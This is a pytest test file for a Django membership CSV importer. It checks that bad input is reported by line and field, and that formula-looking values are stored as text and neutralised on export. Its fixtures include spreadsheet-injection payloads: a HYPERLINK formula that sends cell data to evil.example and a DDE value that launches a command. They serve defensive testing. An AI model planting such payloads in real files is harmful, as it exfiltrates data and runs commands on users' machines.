"""Files an attacker or a careless export would produce: every problem named by line and field, never a
traceback; formula-looking values stored as text and neutralised in every CSV Polity writes."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import CommandError, call_command

from polity.members.importing import FIELD_LIMIT, ImportReport, RowProblem, members_import
from polity.members.models import Person
from polity.members.tests.test_import import GOOD, HEADER, _csv


def run(org, stream):  # type: ignore[no-untyped-def]
    return members_import(actor=org.actor("national"), path_or_stream=stream)


def test_a_field_past_the_csv_limit_is_a_problem_on_its_line(org):
    huge = "N0000009,Huge," + "x" * (FIELD_LIMIT + 10) + ",,,,,,,north-a-1,active,2024-01-05,"
    report = run(org, _csv(GOOD[0], GOOD[1], huge, GOOD[2]))
    assert not report.ok and report.imported == 0
    assert [(p.line, p.field) for p in report.problems] == [(4, "row")]
    assert f"longer than {FIELD_LIMIT:,} characters" in report.problems[0].message
    assert not Person.objects.filter(membership_number__startswith="N000000").exists()


def test_a_quote_left_open_is_reported_not_raised(org):
    opened = 'N0000009,"Open,Quote,,,,,,,north-a-1,active,2024-01-05,'
    body = "\n".join(
        [HEADER, GOOD[0], opened]
        + [f"N{i:07d},A,B,,,,,,,north-a-1,active,2024-01-05," for i in range(10, 20)]
    )
    stream = io.StringIO(body + "\n" + "y" * (FIELD_LIMIT + 1) + "\n")
    stream.name = "members.csv"
    report = run(org, stream)
    assert not report.ok and report.imported == 0
    assert report.problems[-1].field == "row" and "quote left open" in report.problems[-1].message


def test_bytes_that_are_not_utf8_are_named_by_line(org):
    raw = "\n".join([HEADER, *GOOD]).encode()
    lines = raw.split(b"\n")
    lines[2] = lines[2].replace(b"Brian", b"Bri\xe9n")  # Latin-1, as a spreadsheet might save it
    lines[3] = lines[3].replace(b"Cleo", b"Cl\xffeo")
    stream = io.BytesIO(b"\n".join(lines))
    stream.name = "latin1.csv"
    report = run(org, stream)
    assert report.lines() == [
        "latin1.csv:3: file: byte 0xE9 at column 13 is not UTF-8: save the file as UTF-8 and try again",
        "latin1.csv:4: file: byte 0xFF at column 12 is not UTF-8: save the file as UTF-8 and try again",
    ]
    assert report.imported == 0


def test_the_command_names_the_line_of_bad_utf8(org, tmp_path, capsys):
    path = tmp_path / "bad.csv"
    path.write_bytes(
        ("\n".join([HEADER, GOOD[0]]) + "\n").encode()
        + b"N0000005,Jos\xe9,X,,,,,,,north-a-1,active,2024-01-05,\n"
    )
    with pytest.raises(CommandError, match="nothing was imported"):
        call_command("import_members", str(path))
    assert "bad.csv:3: file: byte 0xE9 at column 13 is not UTF-8" in capsys.readouterr().err


def test_a_column_named_twice_is_reported_as_such(org):
    header = HEADER + ",email"
    report = run(org, _csv(GOOD[0] + ",ada@example.org", header=header))
    assert report.lines() == ["members.csv:1: email: this column is named more than once (columns 4, 14)"]


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("Ad\x00a", "U+0000"),
        ("Ad\x07a", "U+0007"),
        ("Ad\ta", "U+0009"),
        ('"Ad\na"', "U+000A"),
        ('"Ad\r\na"', "U+000D"),
        ("Ad\x7fa", "U+007F"),
        ("Ad\x85a", "U+0085"),
        ("Ad\u2028a", "U+2028 (line separator)"),
        ("\u202eadA", "U+202E (right-to-left override)"),
        ("Ada\u2066x\u2069", "U+2066 (left-to-right isolate)"),
        ("A\u200fda", "U+200F (right-to-left mark)"),
    ],
)
def test_hidden_characters_in_names_are_refused_with_line_and_field(org, value, shown):
    row = f"N0000007,{value},Lovelace,,,,,,,north-a-1,active,2024-01-05,"
    report = run(org, _csv(GOOD[0], row))
    assert not report.ok and report.imported == 0
    found = [p for p in report.problems if p.field == "given_name"]
    assert len(found) == 1 and found[0].line == 3, report.lines()
    assert shown in found[0].message


def test_hidden_characters_in_other_text_fields_are_refused_too(org):
    row = "N0000007,Ada,Lovelace,,,1 Mill\x00 Lane,Ash\u202eford,,,north-a-1,active,2024-01-05,"
    report = run(org, _csv(row))
    assert [(p.line, p.field) for p in report.problems] == [(2, "address_line"), (2, "town")]


def test_names_in_other_scripts_are_welcome(org):
    row = "N0000008,ليلى,Nguyễn Thị,,,,,,,north-a-1,active,2024-01-05,"
    report = run(org, _csv(row))
    assert report.ok, report.lines()
    assert Person.objects.get(membership_number="N0000008").given_name == "ليلى"


FORMULAS = {
    "given_name": '=HYPERLINK("http://evil.example/?"&A1,"Ada")',
    "family_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "phone": "+44 7700 900123",
    "town": "-2+3",
}


def test_formula_looking_values_are_stored_as_the_text_they_are(org):
    row = [
        "N0000010",
        FORMULAS["given_name"],
        FORMULAS["family_name"],
        "",
        FORMULAS["phone"],
        "",
        FORMULAS["town"],
        "",
        "",
        "north-a-1",
        "active",
        "2024-01-05",
        "",
    ]
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(row)
    report = run(org, _csv(out.getvalue().strip()))
    assert report.ok, report.lines()
    person = Person.objects.get(membership_number="N0000010")
    assert {name: getattr(person, name) for name in FORMULAS} == FORMULAS


def test_the_report_csv_neutralises_every_cell(org, tmp_path, capsys):
    bad = "=cmd.csv"
    path = tmp_path / bad
    path.write_text("\n".join([HEADER, "=1+2,@x,-y,+z,,,,,,north-a-1,active,2024-01-05,"]) + "\n")
    out = tmp_path / "problems.csv"
    with pytest.raises(CommandError):
        call_command("import_members", str(path), "--report", str(out))
    rows = list(csv.reader(out.open(encoding="utf-8")))
    assert rows[0] == ["file", "line", "field", "problem"]
    assert rows[1][:3] == ["'=cmd.csv", "2", "membership_number"]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_report_writes_a_problem_that_starts_like_a_formula_as_text():
    report = ImportReport(
        name="m.csv", problems=[RowProblem(2, "email", "=1+1 is bad"), RowProblem(3, "x", "@y")]
    )
    out = io.StringIO()
    report.write_csv(out)
    assert out.getvalue().splitlines()[1:] == ["m.csv,2,email,'=1+1 is bad", "m.csv,3,x,'@y"]
